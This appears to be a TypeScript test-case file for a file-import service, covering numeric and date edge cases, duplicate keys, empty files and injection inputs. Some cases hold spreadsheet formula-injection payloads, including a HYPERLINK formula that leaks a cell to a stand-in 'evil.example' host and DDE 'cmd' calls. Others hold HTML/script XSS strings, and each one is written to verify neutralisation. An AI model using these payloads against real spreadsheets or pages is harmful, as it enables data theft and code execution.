import { generateContactsCsv } from "@/lib/testing/generate-contacts-csv";
import { HEADER, csvFile, csvRow, jsonLines, person, type HostileCase } from "@/lib/testing/hostile-files/builders";

/* Cases about values (numbers, dates, formulas, markup), duplicate keys and empty files. */

const ORDER_HEADER = "order_id,customer_email,ordered_at,status,quantity,total,currency";
const order = (id: string, quantity: string, total: string) => csvRow([id, "buyer@example.com", "2024-01-01T10:00:00Z", "paid", quantity, total, "EUR"]);
const order1 = { order_id: "j-1", customer_email: "buyer@example.com", ordered_at: "2024-01-01T10:00:00Z", status: "paid", quantity: 1, total: 1, currency: "EUR" };
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1"];

export const values: HostileCase[] = [
  {
    // The contacts template has no number fields, so these use orders. Chosen: -0 is a valid decimal kept as written (but not a quantity
    // in 1..1,000,000); an integer in exponent form (1e3) is not a whole number; a decimal keeps its digits as written; values are trimmed.
    name: "numbers at the edges of their types (CSV, orders)",
    fileName: "numbers.csv",
    templateId: "orders",
    build: () =>
      csvFile([
        ORDER_HEADER,
        order("o-1", "1000000", "1.7976931348623157e308"),
        order("o-2", "9007199254740993", "1"),
        order("o-3", "-0", "1"),
        order("o-4", "1", "-0"),
        order("o-5", "1", "1e309"),
        order("o-6", "1", "NaN"),
        order("o-7", "1", "Infinity"),
        order("o-8", "1", "123456789012345678901234567890.123456789"),
        order("o-9", "1", "5e-324"),
        order("o-10", "1", "0.1e-400"),
        order("o-11", "4.0", "1"),
        order("o-12", "1e3", "1"),
        order("o-13", "１２", "1"),
        order("o-14", "+5", "1"),
        order("o-15", "0x10", "1"),
        order("o-16", " 7 ", "1"),
        order("o-17", "1", "-0.000001"),
      ]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 17, valid: 7, rejected: 10 },
      reportRows: [
        { row: 3, reason: /^quantity: is too large/ },
        { row: 4, reason: /^quantity: must be between 1 and 1000000$/ },
        { row: 6, reason: /^total: is too large$/ },
        { row: 7, reason: /^total: must be a number/ },
        { row: 8, reason: /^total: must be a number/ },
        { row: 12, reason: /^quantity: must be a whole number$/ },
        { row: 13, reason: /^quantity: must be a whole number$/ },
        { row: 14, reason: /^quantity: must be a whole number$/ },
        { row: 16, reason: /^quantity: must be a whole number$/ },
        { row: 18, reason: /^total: must be at least 0$/ },
      ],
      stored: {
        "o-1": { quantity: 1_000_000, total: "1.7976931348623157e308" },
        "o-4": { total: "-0" },
        "o-8": { total: "123456789012345678901234567890.123456789" },
        "o-9": { total: "5e-324" },
        "o-14": { quantity: 5 },
        "o-16": { quantity: 7 },
      },
    },
  },
  {
    // As documented: a JSON number is read as a JavaScript number, so past 15-17 significant digits it is rounded
    // (send such decimals as strings); a CSV decimal keeps its digits as written.
    name: "numbers at the edges of their types (JSON Lines, orders)",
    fileName: "numbers.jsonl",
    templateId: "orders",
    build: () =>
      jsonLines([
        order1,
        JSON.stringify({ ...order1, order_id: "j-2" }).replace('"quantity":1', '"quantity":1e309'),
        JSON.stringify({ ...order1, order_id: "j-3" }).replace('"quantity":1', '"quantity":9007199254740993'),
        JSON.stringify({ ...order1, order_id: "j-4" }).replace('"total":1', '"total":123456789012345678901234567890.5'),
        JSON.stringify({ ...order1, order_id: "j-5" }).replace('"quantity":1', '"quantity":NaN'),
        { ...order1, order_id: "j-6", quantity: "12" },
      ]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 6, valid: 3, rejected: 3 },
      reportRows: [
        { row: 2, reason: /^quantity: must be a whole number$/ },
        { row: 3, reason: /^quantity: is too large/ },
        { row: 5, reason: /^line is not valid JSON$/ },
      ],
      stored: { "j-4": { total: "1.2345678901234568e+29" }, "j-6": { quantity: 12 } },
    },
  },
  {
    // Chosen: only YYYY-MM-DD is a date; day/month orders are never guessed, and a date-time is not a date.
    name: "dates in ambiguous and impossible formats are rejected, real ones kept",
    fileName: "dates.csv",
    templateId: "contacts",
    build: () =>
      csvFile([
        `${HEADER},signup_date`,
        ...["01/02/2024", "2024-13-01", "2024-02-30", "2024-02-29", "2023-02-29", "02.01.2024", "2024-1-5", "20240102", "2024-01-02T00:00:00Z", " 2024-01-02 "].map(
          (date, index) => `${person(index + 1)},${date}`,
        ),
      ]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 10, valid: 2, rejected: 8 },
      reportRows: [2, 3, 4, 6, 7, 8, 9, 10].map((row) => ({ row, reason: /^signup_date: must be a date as YYYY-MM-DD$/ })),
      stored: { "p4@example.com": { signup_date: "2024-02-29" }, "p10@example.com": { signup_date: "2024-01-02" } },
    },
  },
  {
    name: "dates in the years 0001 to 0099 are real dates",
    fileName: "early-dates.csv",
    templateId: "contacts",
    build: () => csvFile([`${HEADER},signup_date`, `${person(1)},0001-01-01`, `${person(2)},0099-12-31`, `${person(3)},1970-01-01`]),
    expected: { state: "succeeded", counts: { rows: 3, valid: 3, rejected: 0 }, stored: { "p1@example.com": { signup_date: "0001-01-01" }, "p2@example.com": { signup_date: "0099-12-31" } } },
  },
  {
    name: "formula-injection values in valid rows are stored as text",
    fileName: "formulas-valid.csv",
    templateId: "contacts",
    build: () => csvFile([`${HEADER},company`, csvRow(["+cmd@example.com", FORMULAS[0]!, FORMULAS[1]!, FORMULAS[2]!]), csvRow(["-1+1@example.com", FORMULAS[3]!, "=1+1", "@SUM(A1:A9)"])]),
    expected: {
      state: "succeeded",
      counts: { rows: 2, valid: 2, rejected: 0 },
      stored: {
        "+cmd@example.com": { first_name: FORMULAS[0], last_name: FORMULAS[1], company: FORMULAS[2] },
        "-1+1@example.com": { first_name: FORMULAS[3], last_name: "=1+1", company: "@SUM(A1:A9)" },
      },
    },
  },
  {
    name: "formula-injection values in rejected rows are neutralized in the error report",
    fileName: "formulas-rejected.csv",
    templateId: "contacts",
    build: () => csvFile([`${HEADER},=cmd|' /C calc'!A0`, csvRow(FORMULAS), csvRow(["not-an-email", "\t=1+1", "-2", "@x"])]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 2, valid: 0, rejected: 2 },
      reportRows: [
        { row: 2, reason: /^email: must be an e-mail address$/, cells: FORMULAS.map((formula) => `'${formula}`) },
        { row: 3, reason: /^email: must be an e-mail address$/, cells: ["not-an-email", "'\t=1+1", "'-2", "'@x"] },
      ],
    },
  },
  {
    // Spreadsheets accept line breaks inside a formula: a cell is a formula by its first character, whatever follows.
    name: "a formula holding a line break in a rejected row is neutralized in the error report",
    fileName: "formula-newline.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, csvRow(["not-an-email", '=HYPERLINK("http://evil.example","click")\nsee notes', "+1\r\n+2"])]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 1, valid: 0, rejected: 1 },
      // (The CRLF inside the quoted cell reads as LF, as every line break does.)
      reportRows: [{ row: 2, reason: /^email: must be an e-mail address$/, cells: ["not-an-email", '\'=HYPERLINK("http://evil.example","click")\nsee notes', "'+1\n+2"] }],
    },
  },
  {
    name: "HTML and script payloads are stored as given",
    fileName: "html.csv",
    templateId: "contacts",
    build: () =>
      csvFile([
        `${HEADER},company`,
        csvRow(["p1@example.com", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(document.cookie)>']),
        csvRow(["p2@example.com", "javascript:alert(1)", "{{constructor.constructor('alert(1)')()}}", "${7*7}</td></tr></table>"]),
      ]),
    expected: {
      state: "succeeded",
      counts: { rows: 2, valid: 2, rejected: 0 },
      stored: {
        "p1@example.com": { first_name: "<script>alert(1)</script>", last_name: "<img src=x onerror=alert(1)>", company: '"><svg/onload=alert(document.cookie)>' },
        "p2@example.com": { first_name: "javascript:alert(1)", last_name: "{{constructor.constructor('alert(1)')()}}", company: "${7*7}</td></tr></table>" },
      },
    },
  },
];

export const duplicates: HostileCase[] = [
  {
    name: "duplicate record keys in one chunk (differing in case): the first is kept",
    fileName: "duplicates.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, "a@example.com,A1,Last", person(2), "A@EXAMPLE.COM,A2,Last", "a@example.com,A3,Last"]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 4, valid: 2, rejected: 2 },
      reportRows: [4, 5].map((row) => ({ row, reason: /^duplicate record key "a@example\.com": an earlier row of the file has it$/ })),
      stored: { "a@example.com": { first_name: "A1" } },
    },
  },
  {
    name: "duplicate record keys across chunks: one occurrence is stored, the others reported",
    fileName: "duplicates-across-chunks.csv",
    templateId: "contacts",
    build: () => {
      const generated = generateContactsCsv({ rows: 3000, invalidEvery: 1_000_000 });
      const lines = generated.csv.trimEnd().split("\r\n");
      return csvFile([...lines, lines[1]!.replace(/,[^,]*,/, ",Again,"), lines[2000]!.replace(/,[^,]*,/, ",Again,")]);
    },
    expected: {
      state: "completed_with_errors",
      counts: { rows: 3002, valid: 3000, rejected: 2 },
      minChunks: 4,
      reportReasonCounts: [{ reason: /^duplicate record key "[^"]+": row \d+ has it$/, count: 2 }],
    },
  },
];

export const emptyFiles: HostileCase[] = [
  { name: "an empty file fails as empty", fileName: "empty.csv", templateId: "contacts", build: () => Buffer.alloc(0), expected: { state: "failed", failureReason: /^The file is empty/ } },
  {
    name: "a file of blank lines fails as empty",
    fileName: "blank.csv",
    templateId: "contacts",
    build: () => Buffer.from("\r\n  \r\n\t\r\n"),
    expected: { state: "failed", failureReason: /^The file is empty/ },
  },
  {
    name: "a header-only file succeeds with no rows",
    fileName: "header-only.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER]),
    expected: { state: "succeeded", counts: { rows: 0, valid: 0, rejected: 0 } },
  },
  {
    name: "a header-only file without a final line break succeeds with no rows",
    fileName: "header-only-no-newline.csv",
    templateId: "contacts",
    build: () => Buffer.from(HEADER),
    expected: { state: "succeeded", counts: { rows: 0, valid: 0, rejected: 0 } },
  },
];
